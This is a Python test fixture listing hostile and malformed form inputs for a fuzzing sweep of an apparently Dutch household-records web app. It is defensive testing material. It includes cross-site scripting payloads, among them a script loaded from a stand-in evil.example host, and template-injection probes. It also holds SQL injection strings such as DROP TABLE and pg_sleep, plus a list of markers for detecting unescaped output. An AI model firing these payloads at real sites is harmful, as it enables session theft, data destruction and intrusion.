"""A fixed corpus of hostile and odd input, used on every field of every form.

Grouped by what it probes; at least 50 payloads. The sweep (test_sweep.py) posts each one
into each field of each registered form (other fields valid) and demands: no 500, an
error next to the field when refused, and never the payload unescaped in any page that
shows it later.
"""

SCRIPT = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '"><script>alert(document.cookie)</script>',
    "<img src=x onerror=alert(1)>",
    '<svg onload="alert(1)">',
    "<svg><script>alert(1)</script></svg>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<a href="javascript:alert(1)">klik</a>',
    "<body onload=alert(1)>",
    '<div style="background:url(javascript:alert(1))">',
    "javascript:alert(1)",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "';alert(String.fromCharCode(88,83,83))//",
    '<img src="file:///etc/passwd">',
    '<link rel="stylesheet" href="https://evil.example/x.css">',
    '<!--#exec cmd="/bin/ls"-->',
    "<object data=x></object>",
    "</textarea><script>alert(1)</script>",
    '<input autofocus onfocus="alert(1)">',
    "hx-get=/beheer/ hx-trigger=load",
]
TEMPLATE = ["{{ 7*7 }}", "{% debug %}", "{{ request.user.password }}", "${7*7}", "#{7*7}"]
SQL = [
    "' OR '1'='1",
    "'; DROP TABLE huishoudens_huishouden; --",
    '" OR ""="',
    "1; SELECT pg_sleep(5)",
    "%' AND 1=1 --",
    "\\x00\\",
]
SIZE = ["a" * 100_000, "é" * 5_000, "<" * 10_000]
CONTROL = [
    "voor\x00na",
    "\x00",
    "regel\r\nregel",
    "\u202egnirts desrever",  # right-to-left override
    "\u200b\u200b\u200b",  # zero-width spaces
    "\ufeffBOM",
    "tab\tin tekst",
]
UNICODE = ["👨‍👩‍👧‍👦 Familie", "Ünïcödé Çàfé", "Şahin Yılmaz", "日本語", "ﷺ", "𝕳𝖊𝖑𝖑𝖔"]
TYPES = [
    "",
    " ",
    "-1",
    "0",
    "1e309",
    "NaN",
    "Infinity",
    "-0.0001",
    "99999999999999999999",
    "1,5",
    "€ 12,50",
    "true",
    "null",
    "[]",
    "{}",
]
DATES = [
    "31-02-2026",
    "00-00-0000",
    "2026-13-01",
    "29-02-2025",
    "01-01-0001",
    "31-12-9999",
    "gisteren",
    "2026/11/23",
    "23-11-2026T25:61",
    # out of range, other locales and calendars, overflow
    "1850-01-01",
    "2150-06-30",
    "-2026-01-01",
    "11/23/2026",
    "23.11.2026",
    "23 november 2026",
    "2026-W48-1",
    "20261123",
    "99999-01-01",
    "2026-02-30",
    "1e3-01-01",
    "１２-１１-２０２６",  # full-width digits
]
# Number-like fields: amounts, house numbers, months, primary keys.
NUMBERS = [
    "1.000,50",
    "1,000.50",
    "12,345",
    "+5",
    "0x1F",
    "٣",  # Arabic-Indic digit
    "½",
    str(2**31),
    str(2**63),
    "-" + str(2**63),
    "9" * 40,
    "1" + "0" * 400,
]
# Primary keys and choices of other objects: ids that exist elsewhere, or nowhere.
IDS = ["1", "2", "3", "100", "999999", "-1", "0"]
BSN = ["123456789", "000000000", "12345678", "1234567890", "abcdefghi", "111222333", "999999999"]

# Free text and choices: dates and BSNs are only text there (they are the date and number
# fields' own corpus below), so they are left out of it.
PAYLOADS: list[str] = SCRIPT + TEMPLATE + SQL + SIZE + CONTROL + UNICODE + TYPES

# For fields that take a date or a number the subset that makes sense: they never reach a
# page verbatim, only their error does. Each holds at least 50 payloads.
DATE_PAYLOADS: list[str] = DATES + TYPES + SCRIPT[:6] + SQL + SIZE[:1] + CONTROL
NUMBER_PAYLOADS: list[str] = NUMBERS + IDS + TYPES + BSN + SCRIPT[:4] + SQL + SIZE[:1] + CONTROL

# A payload shown "unescaped" would put one of these markers into the HTML verbatim.
DANGEROUS_MARKERS = [
    "<script",
    "<img",
    "<svg",
    "<iframe",
    "onerror=",
    "onload=",
    "<object",
    "<body",
    '<a href="javascript',
    "<input autofocus",
    "<link",
    "<math",
]

assert min(len(PAYLOADS), len(DATE_PAYLOADS), len(NUMBER_PAYLOADS)) >= 50
